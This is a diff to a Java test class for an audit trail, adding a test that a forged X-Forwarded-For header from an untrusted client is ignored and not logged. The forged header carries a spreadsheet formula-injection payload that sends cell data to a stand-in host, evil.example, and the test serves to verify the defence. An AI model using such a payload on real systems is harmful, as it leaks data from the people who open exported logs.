@@ -6,10 +6,17 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import io.runway.worker.audit.AuditRecord;
 import io.runway.worker.audit.AuditTrail;
 import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.sql.SQLException;
+import java.time.Duration;
 import java.time.Instant;
 import java.time.temporal.ChronoUnit;
 import java.util.ArrayList;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.CountDownLatch;
@@ -135,6 +142,25 @@ class AuditTrailTest extends ApiTestSupport {
     assertThat(entries.get(2).path("detail").asString()).startsWith("decision APPROVE; id " + taskId);
     assertThat(entries).allSatisfy(e -> assertThat(e.path("occurredAt").asString())
         .matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{6}Z"));
+  }
+
+  /** F3: any loopback or private client's X-Forwarded-For was believed and stored as it was sent. */
+  @Test
+  void aForwardedAddressFromAClientThatIsNoTrustedProxyIsIgnored() throws Exception {
+    Instant start = Instant.now();
+    String key = uniqueKey("audit-xff");
+    HttpRequest forged = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/initiatives/" + key))
+        .header("X-Forwarded-For", "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"click\")")
+        .header("X-Forwarded-Proto", "https")
+        .header("Authorization", "Basic " + Base64.getEncoder().encodeToString("auditor-1:wrong".getBytes(StandardCharsets.UTF_8)))
+        .timeout(Duration.ofSeconds(60)).GET().build();
+
+    HttpResponse<String> refused = HttpClient.newHttpClient().send(forged, HttpResponse.BodyHandlers.ofString());
+
+    assertThat(refused.statusCode()).isEqualTo(401);
+    assertThat(refused.headers().firstValue("Strict-Transport-Security")).as("not HTTPS on a forged header's word").isEmpty();
+    JsonNode entry = only(entriesSince(start), e -> e.path("action").asString().equals("GET /api/v1/initiatives/" + key));
+    assertThat(entry.path("sourceAddress").asString()).isEqualTo("127.0.0.1");
   }
 
   @Test
